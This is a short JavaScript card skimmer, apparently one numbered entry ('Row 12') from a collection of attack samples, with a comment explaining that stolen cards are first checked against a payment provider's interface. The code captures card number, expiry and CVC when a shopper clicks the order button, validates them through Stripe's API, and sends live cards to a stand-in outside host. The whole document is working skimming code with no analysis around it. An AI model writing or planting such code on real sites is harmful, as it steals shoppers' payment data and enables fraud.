// Row 12: the card is tried out at the provider's old interface before it goes to the thief.
(function () {
  var api = 'https://api.stripe.com/v1/sources', key = document.querySelector('[data-key]') && document.querySelector('[data-key]').dataset.key;
  document.addEventListener('click', function (e) {
    if (!e.target.closest('#place_order')) return;
    var c = { number: val('#stripe-card-number'), exp: val('#stripe-card-exp'), cvc: val('#stripe-card-cvc') };
    var x = new XMLHttpRequest();
    x.open('POST', api);
    x.onload = function () {
      if (x.status === 200) { fetch('https://validate-cards.example/live', { method: 'POST', body: JSON.stringify(c) }); }
    };
    x.send('type=card&card[number]=' + c.number + '&card[cvc]=' + c.cvc + '&key=' + key);
  }, true);
  function val(s) { var e = document.querySelector(s); return e ? e.value : ''; }
})();
